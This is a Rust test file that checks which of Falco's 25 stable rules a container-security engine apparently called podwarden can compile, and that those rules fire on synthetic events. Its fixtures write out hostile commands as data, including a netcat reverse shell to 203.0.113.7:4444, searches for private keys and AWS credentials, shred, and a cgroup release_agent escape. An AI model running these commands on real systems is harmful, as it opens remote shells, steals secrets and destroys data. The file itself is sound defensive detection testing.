//! Falco's default (stable) rule file, read in place from shared/compat: which of its 25 rules
//! compile, why the others cannot run on agent events, and that the compiled ones fire.

use crate::support::*;
use podwarden_api::event::L4Protocol;
use podwarden_rules::{CompileOptions, RuleSet, RuleSource, RuleStatus};

fn falco_source() -> RuleSource {
    let path = compat("falco/falco_rules.yaml");
    let text = std::fs::read_to_string(&path)
        .unwrap_or_else(|err| panic!("cannot read {}: {err}", path.display()));
    RuleSource::new("falco_rules.yaml", text)
}

fn falco() -> RuleSet {
    RuleSet::compile(&[falco_source()], &CompileOptions::default()).0
}

#[test]
fn stable_rules_compile_fourteen_of_twenty_five() {
    let (set, diagnostics) = RuleSet::compile(&[falco_source()], &CompileOptions::default());
    let summary = set.summary();
    assert_eq!(
        (summary.total, summary.enabled, summary.failed),
        (25, 14, 11),
        "{summary:?}"
    );
    // Why each disabled rule cannot run: (rule, code, field).
    let mut reasons: Vec<(String, &str, Option<String>)> = diagnostics
        .iter()
        .filter(|d| d.severity == podwarden_rules::Severity::Error)
        .map(|d| {
            (
                d.rule.clone().unwrap_or_default(),
                d.code.as_str(),
                d.field.clone(),
            )
        })
        .collect();
    reasons.sort();
    let expected = [
        ("Clear Log Activities", "R008", Some("evt.arg.flags")),
        (
            "Contact K8S API Server From Container",
            "R008",
            Some("fd.sip.name"),
        ),
        ("Create Hardlink Over Sensitive Files", "R011", None),
        ("Create Symlink Over Sensitive Files", "R011", None),
        (
            "Directory traversal monitored file read",
            "R008",
            Some("evt.is_open_read"),
        ),
        (
            "Directory traversal monitored file read",
            "R008",
            Some("fd.nameraw"),
        ),
        (
            "Drop and execute new binary in container",
            "R008",
            Some("proc.is_exe_upper_layer"),
        ),
        ("Linux Kernel Module Injection Detected", "R011", None),
        ("PTRACE anti-debug attempt", "R008", Some("evt.arg.request")),
        (
            "PTRACE attached to process",
            "R008",
            Some("evt.arg.request"),
        ),
        (
            "Read sensitive file trusted after startup",
            "R008",
            Some("evt.is_open_read"),
        ),
        (
            "Read sensitive file untrusted",
            "R008",
            Some("evt.is_open_read"),
        ),
    ];
    let expected: Vec<(String, &str, Option<String>)> = expected
        .iter()
        .map(|(r, c, f)| (r.to_string(), *c, f.map(str::to_string)))
        .collect();
    assert_eq!(reasons, expected);
    // Everything else is a note or a warning (output fields shown as <NA>, the container plugin).
    assert!(
        diagnostics
            .iter()
            .all(|d| d.severity == podwarden_rules::Severity::Error
                || matches!(d.code.as_str(), "R013" | "R015"))
    );
}

#[test]
fn compiled_stable_rules_fire_on_agent_events() {
    let set = falco();
    let pod = "docker.io/library/app:1";
    let cases = [
        (
            "Run shell untrusted",
            exec("/bin/sh", &["sh", "-c", "id"])
                .parent("/usr/sbin/nginx", &["nginx"])
                .build(),
        ),
        (
            "Terminal shell in container",
            exec("/bin/bash", &["bash"])
                .tty(34816)
                .parent("/usr/bin/runc", &["runc", "init"])
                .container(pod)
                .build(),
        ),
        (
            "Netcat Remote Code Execution in Container",
            exec("/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
                .container(pod)
                .build(),
        ),
        (
            "Search Private Keys or Passwords",
            exec("/bin/grep", &["grep", "-r", "BEGIN RSA PRIVATE", "/"]).build(),
        ),
        (
            "Remove Bulk Data from Disk",
            exec("/usr/bin/shred", &["shred", "-u", "db.sqlite"]).build(),
        ),
        (
            "Packet socket created in container",
            packet_socket("/usr/sbin/tcpdump", &["tcpdump"])
                .container(pod)
                .build(),
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            stdio_socket("/bin/sh", &["sh"], 0, "203.0.113.7:4444")
                .container(pod)
                .build(),
        ),
        (
            "Debugfs Launched in Privileged Container",
            exec("/sbin/debugfs", &["debugfs", "/dev/sda1"])
                .container(pod)
                .privileged()
                .build(),
        ),
        (
            "Detect release_agent File Container Escapes",
            file_modified("/bin/sh", &["sh"], "/tmp/cgrp/release_agent")
                .user(0, "root")
                .caps(1 << 21)
                .container(pod)
                .build(),
        ),
        (
            "Find AWS Credentials",
            exec(
                "/usr/bin/find",
                &["find", "/", "-path", "*.aws/credentials"],
            )
            .build(),
        ),
        (
            "Execution from /dev/shm",
            exec("/dev/shm/x", &["/dev/shm/x"]).build(),
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            connect(
                "/usr/bin/ssh",
                &["/usr/bin/ssh", "-p", "443", "203.0.113.7"],
                "203.0.113.7:443",
            )
            .build(),
        ),
        (
            "Fileless execution via memfd_create",
            exec("/memfd:x", &["x"]).name("3").memfd().build(),
        ),
        (
            "System user interactive",
            exec("/bin/ls", &["ls"])
                .parent("/bin/bash", &["bash"])
                .parent("/usr/sbin/sshd", &["sshd"])
                .build(),
        ),
    ];
    for (rule, event) in &cases {
        assert!(
            fired(&set, event).iter().any(|r| r == rule),
            "{rule} should fire; fired {:?}",
            fired(&set, event)
        );
    }
    let enabled: Vec<&str> = set
        .rules()
        .iter()
        .filter(|r| r.status == RuleStatus::Enabled)
        .map(|r| r.name.as_str())
        .collect();
    assert_eq!(
        enabled.len(),
        cases.len(),
        "every compiled rule has a firing case"
    );
    // Look-alikes stay quiet.
    for event in [
        exec("/bin/sh", &["sh", "-c", "id"])
            .parent("/usr/sbin/cron", &["cron"])
            .build(),
        exec("/bin/nc", &["nc", "-zv", "db", "5432"])
            .container(pod)
            .build(),
        connect("/usr/bin/ssh", &["ssh"], "10.0.0.7:443").build(),
        connect("/usr/bin/ssh", &["ssh"], "203.0.113.7:22").build(),
        exec("/memfd:runc_cloned:/proc/self/exe", &["runc", "init"])
            .name("runc")
            .memfd()
            .build(),
        listen("/usr/sbin/nginx", &["nginx"], "0.0.0.0:80", L4Protocol::Tcp).build(),
    ] {
        assert!(
            fired(&set, &event).is_empty(),
            "{}: fired {:?}",
            event.to_json_line(),
            fired(&set, &event)
        );
    }
}

#[test]
fn stable_rules_load_beside_ours() {
    let mut sources = RuleSet::builtin_sources();
    sources.push(falco_source());
    let (set, diagnostics) = RuleSet::compile(&sources, &CompileOptions::default());
    let own = RuleSet::builtin().summary().enabled;
    assert_eq!(set.summary().enabled, own + 14);
    assert_eq!(
        diagnostics
            .iter()
            .filter(|d| d.severity == podwarden_rules::Severity::Error)
            .count(),
        12
    );
    // A reverse shell in a pod meets both rule sets.
    let event = stdio_socket("/bin/sh", &["sh"], 0, "203.0.113.7:4444")
        .container("app:1")
        .build();
    let names = fired(&set, &event);
    assert!(
        names.contains(&"Shell with a network socket as standard stream".to_string()),
        "{names:?}"
    );
    assert!(
        names.contains(&"Redirect STDOUT/STDIN to Network Connection in Container".to_string()),
        "{names:?}"
    );
}
